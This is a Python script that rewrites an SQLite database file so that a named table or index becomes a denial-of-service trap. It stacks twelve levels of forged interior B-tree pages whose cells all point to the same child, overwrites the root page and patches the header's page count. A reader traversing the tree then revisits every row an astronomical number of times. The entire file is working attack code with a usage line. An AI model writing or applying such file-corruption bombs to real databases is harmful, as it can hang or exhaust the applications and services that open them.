#!/usr/bin/python3
"""Makes the pages of a table or an index lead to the same leaves again and again.

usage: registry_circle.py REGISTRY NAME

Twelve pages are put above its root, each with as many children as fit, all of which are the next one: a reader who follows them
meets every row more often than he can count.
"""

import sqlite3
import struct
import sys

PAGE = 4096
LEVELS = 12
MOST = 400
INDEX_LEAF = 10


def varint(data):
    """The value of the one that DATA begins with, and its length; of two bytes at most."""
    return (data[0], 1) if data[0] < 128 else ((data[0] & 127) << 7 | data[1], 2)


def interior(child, payload):
    """A page whose children are all the same; PAYLOAD is a key of an index, or None for a table's."""
    cells = [struct.pack(">I", child) + (payload or bytes([min(key + 1, 127)])) for key in range(MOST)]
    cells = cells[:(PAGE - 12) // (len(cells[0]) + 2)]
    page = bytearray(PAGE)
    pointers = b""
    end = PAGE
    for cell in cells:
        end -= len(cell)
        page[end:end + len(cell)] = cell
        pointers += struct.pack(">H", end)
    head = struct.pack(">BHHHBI", 2 if payload else 5, 0, len(cells), end, 0, child)
    page[:len(head) + len(pointers)] = head + pointers
    return page


def main(path, name):
    """Rewrites the file."""
    with sqlite3.connect(path) as db:
        db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        row = db.execute("SELECT rootpage FROM sqlite_schema WHERE name = ?", (name,)).fetchone()
    db.close()
    with open(path, "rb") as file:
        data = bytearray(file.read())
    at = (row[0] - 1) * PAGE
    root = bytes(data[at:at + PAGE])
    payload = None
    if root[0] == INDEX_LEAF:
        first = struct.unpack(">H", root[8:10])[0]
        size, length = varint(root[first:])
        payload = root[first:first + length + size]
    # The old root moves behind the others: it is the last child.
    data += root
    for _ in range(LEVELS - 1):
        data += interior(len(data) // PAGE, payload)
    data[at:at + PAGE] = interior(len(data) // PAGE, payload)
    data[28:32] = struct.pack(">I", len(data) // PAGE)
    with open(path, "r+b") as file:
        file.write(data)
    return 0


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:]))
